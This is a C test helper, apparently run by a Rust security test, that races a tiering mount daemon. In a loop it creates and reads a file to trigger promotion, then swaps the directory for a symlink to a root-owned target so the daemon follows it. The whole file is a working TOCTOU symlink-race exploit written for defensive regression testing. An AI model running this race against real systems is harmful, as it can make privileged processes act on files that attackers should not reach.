/* The attack of the mount-hardening report, as an unprivileged user would run it: in a
 * world-writable directory of a tierwise mount, loop
 *   mkdir dK; write and read dK/victim (a read makes the policy promote it);
 *   wait 0-3 ms; mv dK eK; mv link dK   (link: a symlink to a root-owned directory elsewhere)
 * so that a daemon which resolved dK/victim before the renames and acts on it after them
 * follows the symlink. Compiled and run by crates/cli/tests/mount_security.rs.
 * usage: race_attacker DIR TARGET_DIR ITERATIONS SEED */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void wait_us(long us) {
    struct timespec ts = {us / 1000000, (us % 1000000) * 1000};
    nanosleep(&ts, NULL);
}

static void remove_dir(const char *d) {
    char p[256];
    snprintf(p, sizeof p, "%s/victim", d);
    unlink(p);
    rmdir(d);
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: %s DIR TARGET_DIR ITERATIONS SEED\n", argv[0]);
        return 2;
    }
    if (chdir(argv[1]) != 0) { perror("chdir"); return 1; }
    long n = atol(argv[3]);
    srand((unsigned)atol(argv[4]));
    unlink("link");
    if (symlink(argv[2], "link") != 0) { perror("symlink"); return 1; }
    static char buf[65536];
    long renamed = 0;
    for (long i = 0; i < n; i++) {
        if (mkdir("dK", 0777) != 0 && errno != EEXIST) { perror("mkdir"); return 1; }
        int fd = open("dK/victim", O_CREAT | O_WRONLY | O_TRUNC, 0644);
        if (fd < 0) { remove_dir("dK"); continue; }
        size_t len = 4096 + (size_t)(rand() % 60000);
        for (size_t k = 0; k < len; k++) buf[k] = (char)rand();
        if (write(fd, buf, len) < 0) { close(fd); remove_dir("dK"); continue; }
        close(fd);
        fd = open("dK/victim", O_RDONLY);
        if (fd >= 0) { while (read(fd, buf, sizeof buf) > 0) {} close(fd); }
        wait_us(rand() % 4 == 0 ? 0 : rand() % 3000);
        char e[32];
        snprintf(e, sizeof e, "eK%ld", i % 8);
        remove_dir(e);
        if (rename("dK", e) != 0) { remove_dir("dK"); continue; }
        if (rename("link", "dK") == 0) {
            renamed++;
            fd = open("dK/victim", O_RDONLY); /* through the link: EACCES for this user */
            if (fd >= 0) close(fd);
            wait_us(rand() % 2000);
            rename("dK", "link");
        }
    }
    for (int k = 0; k < 8; k++) {
        char e[32];
        snprintf(e, sizeof e, "eK%d", k);
        remove_dir(e);
    }
    printf("done %ld swaps\n", renamed);
    return 0;
}
